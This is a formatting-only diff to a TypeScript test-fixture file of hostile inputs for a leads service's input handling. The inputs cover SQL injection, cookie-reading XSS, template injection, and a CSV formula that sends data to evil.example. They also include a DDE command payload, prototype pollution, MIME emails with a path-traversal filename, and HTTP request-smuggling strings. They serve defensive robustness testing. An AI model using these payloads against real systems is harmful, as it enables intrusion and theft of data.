@@ -19,7 +19,7 @@ export const INJECTIONS = [
   "'); SELECT pg_sleep(10); --",
   "\\'; COPY leads TO '/tmp/x'; --",
   "<script>alert(1)</script>",
-  "\"><img src=x onerror=alert(document.cookie)>",
+  '"><img src=x onerror=alert(document.cookie)>',
   "<svg/onload=alert`1`>",
   "javascript:alert(1)",
   "{{7*7}}",
@@ -27,7 +27,7 @@ export const INJECTIONS = [
   "{% for x in (1..99999999) %}x{% endfor %}",
   "${process.exit(1)}",
   "#{7*7} <%= 7*7 %>",
-  "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
+  '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
   "+cmd|' /C calc'!A0",
   "-2+3",
   "@SUM(A1:A9)",
@@ -50,23 +50,23 @@ export const asStored = (s: string) => s.replaceAll("\u0000", "\uFFFD").toWellFo
 
 /** JSON that does not parse, or parses into something no lead is. */
 export const MALFORMED_JSON = [
-  "{\"email\": \"a@example.com\",",
-  "{\"email\":}",
+  '{"email": "a@example.com",',
+  '{"email":}',
   "{'email': 'single@example.com'}",
-  "{\"a\":1}{\"b\":2}",
-  "\uFEFF{\"email\":\"bom@example.com\"}",
+  '{"a":1}{"b":2}',
+  '\uFEFF{"email":"bom@example.com"}',
   "[".repeat(5000) + "]".repeat(5000),
-  "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
-  "{\"email\":\"dup@example.com\",\"email\":\"other@example.com\"}",
+  '{"a":'.repeat(2000) + "1" + "}".repeat(2000),
+  '{"email":"dup@example.com","email":"other@example.com"}',
   "NaN",
   "",
   "\u0000\u0001\u0002",
-  "{\"budget\": 1e999999, \"email\": \"inf@example.com\"}",
-  "{\"email\": \"x@example.com\" /* comment */}",
-  "\"just a string\"",
-  "[{\"email\":\"array@example.com\"}]",
+  '{"budget": 1e999999, "email": "inf@example.com"}',
+  '{"email": "x@example.com" /* comment */}',
+  '"just a string"',
+  '[{"email":"array@example.com"}]',
   "null",
-  "{\"first_name\": \"\\ud800\\u0000\", \"email\": \"esc@example.com\",}",
+  '{"first_name": "\\ud800\\u0000", "email": "esc@example.com",}',
 ];
 
 /** Lead-shaped bodies that break the schema: wrong types, too long, nothing to reach. */
@@ -94,17 +94,25 @@ export const forbiddenProps = (victimTenant: string, forgedId: string): Record<s
   { lead_number: "LEAD-000000-00001" },
   { is_duplicate: true, duplicate_of_id: forgedId },
   { converted_at: "2020-01-01T00:00:00Z" },
-  JSON.parse("{\"__proto__\": {\"isAdmin\": true}}"),
+  JSON.parse('{"__proto__": {"isAdmin": true}}'),
   { constructor: { prototype: { polluted: true } } },
 ];
 
 /** CSV files that try the importer: formulas, a huge field, bad quoting, BOMs, binary, ragged rows. */
 export const HOSTILE_CSV: { name: string; bytes: Uint8Array<ArrayBuffer> }[] = [
-  { name: "formula.csv", bytes: Buffer.from("\uFEFFName,Email,Company\r\n\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",formula@example.com,=1+2\r\n+cmd|' /C calc'!A0,plus@example.com,@SUM(A1)\r\n") },
+  {
+    name: "formula.csv",
+    bytes: Buffer.from(
+      '\uFEFFName,Email,Company\r\n"=HYPERLINK(""http://evil.example"",""x"")",formula@example.com,=1+2\r\n+cmd|\' /C calc\'!A0,plus@example.com,@SUM(A1)\r\n',
+    ),
+  },
   { name: "huge-field.csv", bytes: Buffer.from(`Name,Email\n"${"H".repeat(150_000)}",huge@example.com\n`) },
-  { name: "unbalanced.csv", bytes: Buffer.from("Name,Email\n\"never closed,quote@example.com\nnext,row@example.com\n") },
+  { name: "unbalanced.csv", bytes: Buffer.from('Name,Email\n"never closed,quote@example.com\nnext,row@example.com\n') },
   { name: "double-bom.csv", bytes: Buffer.from("\uFEFF\uFEFFName;Email\r\nBom;bom@example.com\r\n") },
-  { name: "utf16.csv", bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Name,Email\r\nSixteen,utf16@example.com\r\n", "utf16le")]) },
+  {
+    name: "utf16.csv",
+    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Name,Email\r\nSixteen,utf16@example.com\r\n", "utf16le")]),
+  },
   { name: "binary.csv", bytes: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 7919) % 256)) },
   { name: "nul.csv", bytes: Buffer.from("Name,Email\nNul\u0000Name,nul@example.com\n") },
   { name: "ragged.csv", bytes: Buffer.from(`a,b,c\n${"1,2\n".repeat(300)}1,2,3,4,5,6,7,8,9\n`) },
@@ -119,19 +127,24 @@ export function hostileMime(r: Rng): string {
   const inj = pick(r, INJECTIONS).slice(0, 300);
   const cases = [
     () => `From: a@example.com\r\nSubject: ${inj}\r\n\r\n${inj}`,
-    () => `From: "<script>alert(1)</script>" <script@example.com>\r\nTo: sales@example.com\r\nSubject: =?utf-8?B?!!!not-base64!!!?=\r\nContent-Type: text/html; charset=x-unknown-8\r\n\r\n<html><body onload=alert(1)><script>alert(2)</script>${inj}</body></html>`,
-    () => `From: x@example.com\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nunterminated part ${inj}\r\n--b\r\nContent-Type: text/plain\r\n`,
+    () =>
+      `From: "<script>alert(1)</script>" <script@example.com>\r\nTo: sales@example.com\r\nSubject: =?utf-8?B?!!!not-base64!!!?=\r\nContent-Type: text/html; charset=x-unknown-8\r\n\r\n<html><body onload=alert(1)><script>alert(2)</script>${inj}</body></html>`,
+    () =>
+      `From: x@example.com\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nunterminated part ${inj}\r\n--b\r\nContent-Type: text/plain\r\n`,
     () => {
       let body = "leaf";
       for (let i = 0; i < 40; i++) body = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n${body}\r\n--n${i}--\r\n`;
       return `From: deep@example.com\r\n${body}`;
     },
     () => `From: b64@example.com\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@@not base64 at all ${inj}====`,
-    () => `From: qp@example.com\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=E0=A4=B0 ${inj}=`,
-    () => `From: att@example.com\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="../../../../etc/passwd"\r\n\r\n${"\u0000".repeat(50)}\r\n--z--\r\n`,
+    () =>
+      `From: qp@example.com\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=E0=A4=B0 ${inj}=`,
+    () =>
+      `From: att@example.com\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="../../../../etc/passwd"\r\n\r\n${"\u0000".repeat(50)}\r\n--z--\r\n`,
     () => `From: many@example.com\r\n${Array.from({ length: 3000 }, (_, i) => `X-H${i}: ${i}`).join("\r\n")}\r\n\r\nbody`,
     () => `From: long@example.com\r\nSubject: ${"S".repeat(60_000)}\r\n\r\nbody`,
-    () => `From: ${inj.replace(/\r|\n/g, "")} <rtl\u202E@example.com>\r\nReply-To: victim@example.com\r\nBcc: everyone@example.com\r\nSubject: Re: hi\r\nIn-Reply-To: <${"x".repeat(2000)}@example.com>\r\n\r\nBuy now`,
+    () =>
+      `From: ${inj.replace(/\r|\n/g, "")} <rtl\u202E@example.com>\r\nReply-To: victim@example.com\r\nBcc: everyone@example.com\r\nSubject: Re: hi\r\nIn-Reply-To: <${"x".repeat(2000)}@example.com>\r\n\r\nBuy now`,
   ];
   return pick(r, cases)();
 }
@@ -144,7 +157,20 @@ export function garbage(r: Rng, depth = 0): unknown {
   if (n < 5) return r() < 0.5;
   if (n < 6) return null;
   if (n < 8) return Array.from({ length: Math.floor(r() * 5) }, () => garbage(r, depth + 1));
-  const keys = ["phone", "name", "__proto__", "constructor", "tenant_id", "lead_score", "user_column_data", "form_response", "fields", "entry", "RESPONSE", pick(r, INJECTIONS).slice(0, 50)];
+  const keys = [
+    "phone",
+    "name",
+    "__proto__",
+    "constructor",
+    "tenant_id",
+    "lead_score",
+    "user_column_data",
+    "form_response",
+    "fields",
+    "entry",
+    "RESPONSE",
+    pick(r, INJECTIONS).slice(0, 50),
+  ];
   return Object.fromEntries(Array.from({ length: 1 + Math.floor(r() * 6) }, () => [pick(r, keys), garbage(r, depth + 1)]));
 }
 
@@ -200,7 +226,7 @@ export function rawHttp(port: number, request: string, timeoutMs = 5_000): Promi
 
 /** Raw requests that break HTTP framing or header rules; node's parser must refuse them. */
 export function smuggling(path: string, host: string): string[] {
-  const body = "{\"email\":\"smuggle@example.com\"}";
+  const body = '{"email":"smuggle@example.com"}';
   return [
     `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nContent-Length: ${body.length + 5}\r\n\r\n${body}`,
     `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\n\r\n`,
